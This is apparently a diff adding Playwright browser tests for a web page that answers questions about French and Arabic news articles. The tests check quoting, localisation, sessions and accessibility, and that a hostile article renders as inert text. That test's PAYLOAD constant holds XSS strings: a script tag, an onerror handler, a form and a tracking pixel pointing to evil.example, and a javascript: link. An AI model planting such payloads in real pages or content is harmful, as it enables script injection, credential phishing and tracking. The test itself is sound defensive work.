@@ -1,0 +1,252 @@
+"""The page in a real Chromium: the quote is the article's, nothing leaves this machine, nothing in an article comes alive."""
+
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expect, sync_playwright
+
+from app import build, serve
+from index.build import build as build_index
+from index.encoder import Encoder
+from index.options import BuildOptions
+from qa.assistant import Assistant
+
+CHROMIUM = Path("/usr/bin/chromium")
+SAMPLES = Path(__file__).resolve().parents[1] / "corpus" / "articles"
+ARTICLES = (
+    "fr/sommet-volontaires-paris-26-pays.txt",
+    "fr/louvre-cambriolage-galerie-apollon.txt",
+    "ar/inondations-derna-libye.txt",
+)
+ENGLISH = "What role does the American backstop play for Ukraine?"
+ABSENT = "Who won the Kazakh chess championship in 1998?"
+PAYLOAD = (
+    '<script>window.came_alive=1;alert(1)</script><img src=x onerror="window.came_alive=1">'
+    '<form action="http://evil.example/"><input name="code"><button>ok</button></form>'
+    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">verrouillé</div>'
+    "![suivi](http://evil.example/pixel.png?q=1) [lien](javascript:alert(1)) http://evil.example/x `code` _souligné_"
+)
+HOSTILE = f"""Le festival de Montclair
+
+Le festival de Montclair a accueilli 4 321 visiteurs {PAYLOAD} selon la mairie, un record.
+
+La prochaine édition du festival de Montclair aura lieu en juin, dans le parc du château.
+"""
+
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"no Chromium at {CHROMIUM} (apt-get install chromium)"),
+]
+
+
+@pytest.fixture(scope="module")
+def assistant(encoder: Encoder, tmp_path_factory: pytest.TempPathFactory) -> Assistant:
+    """Over three of the samples and a hostile article."""
+    folder = tmp_path_factory.mktemp("browser")
+    for name in ARTICLES:
+        target = folder / "corpus" / name
+        target.parent.mkdir(parents=True, exist_ok=True)
+        shutil.copy(SAMPLES / name, target)
+    (folder / "corpus" / "hostile.txt").write_text(HOSTILE, "utf-8")
+    build_index([folder / "corpus"], folder / "index", encoder, BuildOptions())
+    return Assistant(folder / "index", encoder)
+
+
+@pytest.fixture(scope="module")
+def address(assistant: Assistant) -> Iterator[str]:
+    page = build(assistant)
+    yield serve(page)
+    page.close(verbose=False)
+
+
+@pytest.fixture(scope="module")
+def playwright() -> Iterator[Playwright]:
+    with sync_playwright() as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def browser(playwright: Playwright) -> Iterator[Browser]:
+    arguments = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
+    running = playwright.chromium.launch(executable_path=str(CHROMIUM), args=arguments)
+    yield running
+    running.close()
+
+
+class Watched:
+    """A page and what it did that it should not: requests elsewhere, dialogs, errors. ``guarded`` False takes the CSP away."""
+
+    def __init__(self, browser: Browser, address: str, *, width: int = 1280, locale: str = "en-GB", guarded: bool = True):
+        self.context: BrowserContext = browser.new_context(
+            viewport={"width": width, "height": 860}, locale=locale, bypass_csp=not guarded
+        )
+        self.page: Page = self.context.new_page()
+        self.wrongs: list[str] = []
+        self.page.on("dialog", lambda dialog: (self.wrongs.append(f"dialog {dialog.message}"), dialog.dismiss()))
+        self.page.on("pageerror", lambda error: self.wrongs.append(f"error {error}"))
+        self.page.on("console", lambda line: self.wrongs.append(line.text) if line.type == "error" else None)
+        self.page.on("request", lambda request: self._watch(request.url))
+        self.page.goto(address)
+        expect(self.page.locator("#aqa-question textarea")).to_be_visible(timeout=30_000)
+
+    def _watch(self, url: str) -> None:
+        parts = urlsplit(url)
+        if parts.scheme not in ("data", "blob") and parts.hostname != "127.0.0.1":
+            self.wrongs.append(f"request {url}")
+
+    def ask(self, question: str) -> None:
+        """Ask, and wait for the reply."""
+        before = self.page.locator(".aqa-reply").count()
+        self.page.locator("#aqa-question textarea").fill(question)
+        self.page.locator("#aqa-question textarea").press("Enter")
+        expect(self.page.locator(".aqa-reply")).to_have_count(before + 1, timeout=30_000)
+        expect(self.page.locator("#aqa-question textarea")).to_be_editable(timeout=10_000)
+
+
+@pytest.fixture
+def watched(browser: Browser, address: str) -> Iterator[Watched]:
+    running = Watched(browser, address)
+    yield running
+    running.context.close()
+
+
+def test_an_english_question_shows_a_french_quote_that_stands_in_the_article(watched: Watched, assistant: Assistant) -> None:
+    watched.ask(ENGLISH)
+    page = watched.page
+    quote = page.locator(".aqa-passage mark").first.text_content()
+    article = assistant.snapshot().article_by_id(ARTICLES[0])
+
+    assert article is not None
+    assert quote
+    assert quote in article.text
+    assert "backstop" in quote
+    expect(page.locator(".aqa-found .aqa-marker").first).to_have_text("[1]")
+    expect(page.locator(".aqa-found .aqa-words").first).to_have_attribute("lang", "fr")
+    expect(page.locator(".aqa-passage").first).to_have_attribute("lang", "fr")
+    expect(page.locator(".aqa-found")).to_contain_text("Do the articles answer this?")
+    expect(page.locator(".aqa-card .aqa-facts").first).to_have_text("source unknown · 4 September 2025 · French")
+    assert watched.wrongs == []
+
+
+def test_a_marker_leads_to_its_quote_even_in_an_earlier_answer(watched: Watched) -> None:
+    page = watched.page
+    watched.ask(ENGLISH)
+    watched.ask("Qu'a dit la mairie du festival de Montclair ?")
+    earlier = page.locator("#aqa-1-1")
+    expect(earlier).to_be_hidden()
+    page.locator('.aqa-marker[href="#aqa-1-1"]').click()
+
+    expect(earlier).to_be_visible()
+    expect(earlier).to_be_in_viewport()
+    expect(earlier).to_contain_class("aqa-shown")
+    expect(page.locator(".aqa-card.aqa-shown")).to_be_focused()
+    assert page.url.count("#") == 0
+
+
+def test_an_absent_question_gets_the_notice_and_the_nearest_passages(watched: Watched) -> None:
+    watched.ask(ABSENT)
+    page = watched.page
+
+    expect(page.locator(".aqa-not-found")).to_contain_text("The articles do not answer this question.")
+    expect(page.locator(".aqa-not-found .aqa-marker")).to_have_count(0)
+    expect(page.locator(".aqa-near .aqa-note")).to_have_text("Nearest passages. They do not answer the question.")
+    assert page.locator(".aqa-near .aqa-card").count() > 0
+    expect(page.locator("#aqa-sources mark")).to_have_count(0)
+    assert watched.wrongs == []
+
+
+@pytest.mark.parametrize("guarded", [True, False], ids=["with the CSP", "without it"])
+def test_a_hostile_article_is_shown_as_text(browser: Browser, address: str, guarded: bool) -> None:
+    """Quoted in an answer, in its passage and unfolded; and asked by the user. Escaping alone must do."""
+    watched = Watched(browser, address, guarded=guarded)
+    page = watched.page
+    watched.ask("Combien de visiteurs le festival de Montclair a-t-il accueillis ?")
+    page.locator(".aqa-more summary").first.click()
+    watched.ask(f"Le festival de Montclair {PAYLOAD[:500]} ?")
+    page.wait_for_timeout(500)
+
+    assert PAYLOAD in (page.locator(".aqa-passage").first.text_content() or "")
+    assert PAYLOAD[:500] in (page.locator("#aqa-log").text_content() or "")
+    for region in ("#aqa-log .message", "#aqa-sources"):
+        expect(page.locator(f"{region} :is(script, img, form, input, iframe, code, em, [style*=fixed])")).to_have_count(0)
+        expect(page.locator(f'{region} a[href*="evil"]')).to_have_count(0)
+    assert page.evaluate("window.came_alive") is None
+    assert watched.wrongs == []
+    watched.context.close()
+
+
+def test_the_page_speaks_french_to_a_french_browser_and_switches(browser: Browser, address: str) -> None:
+    watched = Watched(browser, address, locale="fr-FR")
+    page, box = watched.page, watched.page.locator("#aqa-question textarea")
+    expect(box).to_have_attribute("placeholder", "Posez une question sur les articles")
+    expect(page.locator("html")).to_have_attribute("lang", "fr")
+    watched.ask("What did the town hall say about the Montclair festival?")
+    expect(page.locator(".aqa-facts").first).to_contain_text("source inconnue · date inconnue · français")
+    expect(page.locator(".aqa-reply p").first).to_contain_text("According to")  # the answer follows the question's language
+    page.get_by_label("English").check()
+
+    expect(page.locator(".aqa-facts").first).to_contain_text("source unknown · date unknown · French")
+    expect(box).to_have_attribute("placeholder", "Ask a question about the articles")
+    expect(page.locator("html")).to_have_attribute("lang", "en")
+    assert watched.wrongs == []
+    watched.context.close()
+
+
+def test_sessions_share_nothing_and_clearing_clears_the_sources(browser: Browser, address: str) -> None:
+    first, second = Watched(browser, address), Watched(browser, address)
+    first.ask(ENGLISH)
+    second.ask(ABSENT)
+
+    expect(second.page.locator(".aqa-reply")).to_have_count(1)
+    expect(second.page.locator("#aqa-sources")).not_to_contain_text(ENGLISH)
+    first.page.get_by_role("button", name="Clear").click()
+    expect(first.page.locator(".aqa-reply")).to_have_count(0)
+    expect(first.page.locator(".aqa-card")).to_have_count(0)
+    expect(second.page.locator(".aqa-card").first).to_be_visible()
+    first.context.close()
+    second.context.close()
+
+
+def test_asking_again_and_taking_back_keep_answers_and_sources_together(watched: Watched) -> None:
+    page, box = watched.page, watched.page.locator("#aqa-question textarea")
+    watched.ask("Qu'a dit la mairie du festival de Montclair ?")
+    watched.ask(ENGLISH)
+    page.get_by_role("button", name="Retry").click()
+    expect(page.locator(".aqa-section")).to_have_count(2)
+    expect(page.locator(".aqa-reply")).to_have_count(2)
+    page.get_by_role("button", name="Undo").click()
+
+    expect(page.locator(".aqa-reply")).to_have_count(1)
+    expect(page.locator(".aqa-asked")).to_have_text(["Qu'a dit la mairie du festival de Montclair ?"])
+    expect(box).to_have_value(ENGLISH)
+    watched.ask("?")
+    expect(page.locator(".aqa-notice")).to_have_count(1)
+    expect(box).to_have_attribute("placeholder", "Ask a question about the articles")
+    assert watched.wrongs == []
+
+
+def test_a_phone_shows_it_without_sideways_scrolling(browser: Browser, address: str) -> None:
+    """At 390 px, with a hostile article's unbroken line; the sources lie below the conversation."""
+    watched = Watched(browser, address, width=390)
+    page = watched.page
+    watched.ask("Combien de visiteurs le festival de Montclair a-t-il accueillis ?")
+    log, sources = page.locator("#aqa-log").bounding_box(), page.locator("#aqa-sources").bounding_box()
+
+    assert log is not None
+    assert sources is not None
+    assert sources["y"] > log["y"] + log["height"]
+    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    watched.context.close()
+
+
+def test_every_control_has_a_name(watched: Watched) -> None:
+    watched.ask(ENGLISH)
+    nameless = """() => [...document.querySelectorAll('button, input, textarea, a[href], summary')]
+        .filter(e => e.checkVisibility() && !e.innerText && !e.ariaLabel && !e.title && !(e.labels && e.labels.length))
+        .map(e => e.outerHTML.slice(0, 200))"""
+
+    assert watched.page.evaluate(nameless) == []
+    assert watched.page.locator("#aqa-log [aria-label*='<']").count() == 0
